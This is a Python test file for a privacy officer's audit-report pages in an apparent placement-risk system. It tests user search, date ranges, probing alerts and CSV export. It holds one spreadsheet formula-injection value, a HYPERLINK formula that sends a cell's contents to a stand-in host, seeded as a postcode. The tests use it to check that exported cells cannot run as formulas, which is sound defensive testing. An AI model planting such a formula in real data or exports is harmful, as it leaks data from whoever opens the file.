"""The privacy officer's reports (issue 16): any-case search by user, "no such user", a date range on
every report, the report as CSV (cells that cannot run as formulas), a summary of patterns (per young
person and user: checks and distinct candidate addresses, from each check's ``details["candidates"]``)
and probing alerts shown first. The officer's own reads stay audited, one event per young person shown."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re

from sqlalchemy import text

from geo_risk import audit
from geo_risk.store import session_scope

EVIL = '=HYPERLINK("http://x.example/?d="&A1,"open")'


def _check(s, username: str, pseudonym: str, at: dt.datetime, candidates: list[dict], action="placement.check"):
    audit.record(s, username=username, role="housing", purpose="placement", pseudonym=pseudonym, action=action,
                 outcome="allowed", request_id=f"req-{at:%m%d%H%M}", at=at, via="session",
                 details={"candidates": candidates})


def _pc(postcode: str, x: float = 600250.0, y: float = 860250.0) -> dict:
    return {"postcode": postcode, "x": x, "y": y}


def _history(engine) -> None:
    """hana checks YP-0001 four times in November (five different addresses, one tried twice, one with no
    postcode), once in October, and one check's candidates raise a probing alert."""
    with session_scope(engine) as s:
        _check(s, "hana", "YP-0002", dt.datetime(2026, 10, 1, 9), [_pc("ZZ1 1AE")])
        _check(s, "hana", "YP-0001", dt.datetime(2026, 11, 10, 9), [_pc("ZZ1 1AA"), _pc("zz1 1ab")])
        _check(s, "hana", "YP-0001", dt.datetime(2026, 11, 12, 9), [_pc("ZZ1 1AB"), _pc("ZZ1 1AC")])
        _check(s, "hana", "YP-0001", dt.datetime(2026, 11, 18, 9),
               [{"postcode": None, "x": 600400.2, "y": 860410.7}, _pc("ZZ1 1AD")])
        _check(s, "hana", "YP-0001", dt.datetime(2026, 11, 18, 10), [_pc(EVIL)])
        audit.record(s, username="hana", role="housing", purpose="placement", pseudonym="YP-0001",
                     action="probing.alert", outcome="allowed", request_id="req-alert",
                     at=dt.datetime(2026, 11, 18, 10), via="session",
                     details={"referral_id": 1, "checks": 4, "candidates": 7, "min_spacing_m": 12.5,
                              "rule": "many candidates on a grid"})
        # as the checks write them: the candidates listed (counted as distinct addresses), a refused budget
        audit.record(s, username="hana", role="housing", purpose="placement", pseudonym="YP-0002",
                     action="probing.alert", outcome="denied", request_id="req-budget",
                     at=dt.datetime(2026, 11, 5, 10), via="session",
                     details={"referral_id": 3, "checks": 9, "candidates": [_pc("ZZ1 1AE"), _pc("zz1 1ae"),
                                                                          _pc("ZZ1 1AA")],
                              "min_spacing_m": 600, "rule": "budget"})


def _table(page: str, table_id: str) -> list[list[str]]:
    body = page[page.index(f'id="{table_id}"'):]
    body = body[body.index("<tbody>"):body.index("</tbody>")]
    cells = r"<td[^>]*>(.*?)</td>"
    return [[html.unescape(re.sub(r"<[^>]+>", "", c)).strip() for c in re.findall(cells, row, re.DOTALL)]
            for row in re.findall(r"<tr[^>]*>(.*?)</tr>", body, re.DOTALL)]


def _audit_reads(engine, request_id: str) -> list[tuple]:
    with engine.connect() as conn:
        return [tuple(r) for r in conn.execute(text(
            "SELECT username, action, pseudonym FROM audit_event WHERE request_id = :r ORDER BY seq"),
            {"r": request_id})]


def test_a_user_is_found_whatever_the_case_with_patterns_and_alerts_first(signed_in, seeded):
    engine = seeded[0]
    _history(engine)
    pat = signed_in("pat")
    pat.get("/privacy/")
    resp = pat.post("/privacy/by-user", {"username": "  HaNa "})
    page = resp.get_data(as_text=True)
    assert resp.status_code == 200 and "What hana accessed, all dates" in page
    # the alert comes before the summary and the events, in a box of its own
    assert page.index('id="alerts"') < page.index('id="patterns"') < page.index('id="events"')
    assert 'class="alerts has-alerts"' in page
    assert _table(page, "alert-table") == [
        ["2026-11-18 10:00", "YP-0001", "hana", "1", "4", "7", "12.5 m", "many candidates on a grid"],
        ["2026-11-05 10:00", "YP-0002", "hana", "3", "9", "2AddressesZZ1 1AE; ZZ1 1AA", "600 m", "budget"]]
    # YP-0001: 4 checks, 6 addresses (ZZ1 1AB twice in any case; a point with no postcode counts once)
    patterns = {(r[0], r[1]): (r[2], r[3]) for r in _table(page, "patterns")}
    assert patterns[("YP-0001", "hana")] == ("4", "6") and patterns[("YP-0002", "hana")] == ("1", "1")
    rows = _table(page, "events")
    assert any(r[7] == "placement.check" and r[10] == "ZZ1 1AA; ZZ1 1AB" for r in rows)
    assert any(r[10] == "point 600400, 860411; ZZ1 1AD" for r in rows)
    # one event per young person the report shows, and no more
    reads = _audit_reads(engine, resp.headers["X-Request-Id"])
    assert sorted(reads) == [("pat", "audit.by_user", "YP-0001"), ("pat", "audit.by_user", "YP-0002")]


def test_a_name_no_one_has_says_no_such_user_not_an_empty_table(signed_in, seeded):
    pat = signed_in("pat")
    pat.get("/privacy/")
    resp = pat.post("/privacy/by-user", {"username": "Nobody.Here"})
    page = resp.get_data(as_text=True)
    assert resp.status_code == 200 and 'id="no-such-user"' in page and "No such user" in page
    assert "Nobody.Here" in page and 'id="events"' not in page and 'value="Nobody.Here"' in page
    assert _audit_reads(seeded[0], resp.headers["X-Request-Id"]) == [("pat", "audit.by_user", None)]


def test_every_report_takes_a_date_range(signed_in, seeded):
    engine = seeded[0]
    _history(engine)
    pat = signed_in("pat")
    pat.get("/privacy/")
    page = pat.post("/privacy/by-user", {"username": "hana", "from": "2026-11-11", "to": "2026-11-17"}
                    ).get_data(as_text=True)
    assert "from 11 Nov 2026 to 17 Nov 2026" in page
    assert [r[1][:10] for r in _table(page, "events")] == ["2026-11-12"]
    assert {(r[0], r[2], r[3]) for r in _table(page, "patterns")} == {("YP-0001", "1", "2")}
    assert "No probing alert in this range" in page
    assert 'value="2026-11-11"' in page and 'value="2026-11-17"' in page  # what was asked for is kept
    by_person = pat.post("/privacy/by-person", {"pseudonym": "yp-0001", "from": "2026-11-18"}).get_data(as_text=True)
    assert "Who accessed young person YP-0001, from 18 Nov 2026" in by_person
    days = {r[1][:10] for r in _table(by_person, "events")}
    assert "2026-11-18" in days and min(days) == "2026-11-18"  # and the reads since, this one's included
    assert len(_table(by_person, "alert-table")) == 1
    recent = pat.get("/privacy/?from=2026-10-01&to=2026-10-01").get_data(as_text=True)
    assert [r[6] for r in _table(recent, "events")] == ["YP-0002"] and "No probing alert" in recent
    # a range that ends before it starts, or a day that does not exist, is named beside its box
    resp = pat.post("/privacy/by-user", {"username": "hana", "from": "2026-11-20", "to": "2026-11-01"})
    wrong = resp.get_data(as_text=True)
    assert resp.status_code == 400 and "<title>Error: " in wrong and 'href="#user-to"' in wrong
    assert 'id="user-to-error"' in wrong and 'value="2026-11-20"' in wrong and 'id="events"' not in wrong
    assert pat.get("/privacy/?from=2026-02-30").status_code == 400


def test_the_report_downloads_as_csv_that_cannot_run_formulas_and_is_audited(signed_in, seeded):
    engine = seeded[0]
    _history(engine)
    pat = signed_in("pat")
    pat.get("/privacy/")
    resp = pat.post("/privacy/export", {"kind": "user", "value": "HANA", "from": "2026-11-18", "to": "2026-11-18"})
    assert resp.status_code == 200 and resp.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:3] == ["seq", "when_utc", "user"]
    assert [(r[6], r[7]) for r in rows[1:]] == [("YP-0001", "probing.alert"), ("YP-0001", "placement.check"),
                                                ("YP-0001", "placement.check")]
    cells = [c for r in rows for c in r]
    assert "'" + EVIL.upper() in cells and not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    assert _audit_reads(engine, resp.headers["X-Request-Id"]) == [("pat", "audit.export", "YP-0001")]
    # the page offers the download of exactly what it shows
    page = pat.post("/privacy/by-user", {"username": "hana", "from": "2026-11-18"}).get_data(as_text=True)
    form = page[page.index('id="export-form"'):]
    form = form[:form.index("</form>")]
    assert 'name="kind" value="user"' in form and 'name="value" value="hana"' in form
    assert 'name="from" value="2026-11-18"' in form and 'name="to" value=""' in form


def test_the_index_shows_alerts_before_the_recent_events(signed_in, seeded):
    _history(seeded[0])
    page = signed_in("pat").get("/privacy/").get_data(as_text=True)
    assert "The audit chain is intact" in page
    assert page.index('class="alerts has-alerts"') < page.index('id="events"')
    assert _table(page, "alert-table")[0][1:3] == ["YP-0001", "hana"]
